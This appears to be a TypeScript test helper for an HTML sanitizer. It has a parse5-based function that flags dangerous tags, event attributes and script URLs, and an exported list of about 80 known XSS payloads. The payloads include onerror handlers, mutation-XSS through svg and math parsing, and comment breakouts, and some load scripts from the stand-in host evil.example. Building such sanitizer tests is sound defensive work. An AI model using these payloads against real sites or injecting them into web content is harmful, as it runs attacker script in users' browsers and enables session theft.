import { type DefaultTreeAdapterTypes, parseFragment } from "parse5";

/** Everything in a page that could run or load what it should not, as a browser's parser sees it. */
export function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  const visit = (node: DefaultTreeAdapterTypes.ChildNode | DefaultTreeAdapterTypes.DocumentFragment) => {
    if ("attrs" in node) {
      const { tagName, attrs } = node;
      if (
        /^(?:script|style|object|embed|applet|form|svg|math|template|base|meta|link|title|noscript|select)$/.test(
          tagName,
        )
      ) {
        dangers.push(tagName);
      }
      for (const { name, value } of attrs) {
        if (/^(?:on|style$|srcdoc$|formaction$|ping$|background$|xlink|name$)/.test(name)) dangers.push(name);
        const address = [...value].filter((character) => character > " ").join("");
        if (/^(?:javascript:|vbscript:|data:(?!image\/(?:png|jpeg|gif|webp);))/i.test(address))
          dangers.push(`${name}=${value}`);
      }
      const sandboxed = attrs.some(({ name }) => name === "sandbox");
      if (tagName === "iframe" && !sandboxed) dangers.push("iframe without sandbox");
    }
    if ("childNodes" in node) for (const child of node.childNodes) visit(child);
  };
  visit(parseFragment(html));
  visit(parseFragment(html, { scriptingEnabled: false }));
  return dangers;
}

/** Attacks, each of which some sanitizer has let through. */
export const VECTORS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</script>",
  "<script/xss src=//evil.example>",
  "<img src=x onerror=alert(1)>",
  "<img src=x oNeRrOr=alert(1)//",
  "<img/src=`x`onerror=alert(1)>",
  '<img src="x" onerror="&#97;lert(1)">',
  "<img src=javascript:alert(1)>",
  "<img data-src=javascript:alert(1)>",
  "<img src='data:text/html,<script>alert(1)</script>'>",
  "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
  "<img srcset='javascript:alert(1) 2x'>",
  '<img alt="`><script>alert(1)</script>" src=x>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math href=javascript:alert(1)>x</math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java&#10;script:alert(1)'>x</a>",
  "<a href='&#1;javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='javascript&colon;alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='data:image/png;base64,x' download>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='https://x.example' ping='https://evil.example'>x</a>",
  "<a href='view-source:javascript:alert(1)'>x</a>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src='https://www.youtube.com.evil.example/embed/x'></iframe>",
  "<iframe src='https://www.youtube.com/embed/x' srcdoc='<script>alert(1)</script>' onload=alert(1)></iframe>",
  "<iframe src='https://evil.example@www.youtube.com/embed/x'></iframe>",
  "<iframe src='https://www.youtube.com/embed/../redirect?q=evil'></iframe>",
  "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<object data='data:text/html,<script>alert(1)</script>'>x</object>",
  "<embed src=javascript:alert(1)>",
  "<applet code=x></applet>",
  "<base href=javascript:alert(1)//>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';</style>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
  "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button><input type=image src=x onerror=alert(1)></form>",
  "<input autofocus onfocus=alert(1)>",
  "<input type=checkbox onclick=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
  "<video poster=javascript:alert(1) src=javascript:alert(1)></video>",
  "<audio src='data:text/html,<script>alert(1)</script>'></audio>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<body onload=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  "<template><img src=x onerror=alert(1)></template>",
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml <img src=x onerror=alert(1)> ?>",
  "<pre><code><script>alert(1)</script></code></pre>",
  "<pre><code><img src=x onerror=alert(1)></code></pre>",
  "<https://evil.example/onerror=alert(1)><img src=x onerror=alert(1)>",
  "<img id=getElementById name=body src=x>",
  "<plaintext><img src=x onerror=alert(1)>",
];
